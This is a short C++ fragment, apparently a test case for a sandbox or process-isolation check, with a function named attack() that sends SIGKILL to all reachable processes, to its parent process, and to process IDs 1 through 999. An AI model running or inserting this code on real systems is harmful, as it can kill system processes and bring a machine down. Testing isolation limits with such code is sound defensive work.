// right: kills whom it may
#include <unistd.h>
#include <csignal>
static void attack() {
  kill(-1, SIGKILL);
  kill(getppid(), SIGKILL);
  for (int pid = 1; pid < 1000; ++pid)
    if (pid != getpid()) kill(pid, SIGKILL);
}
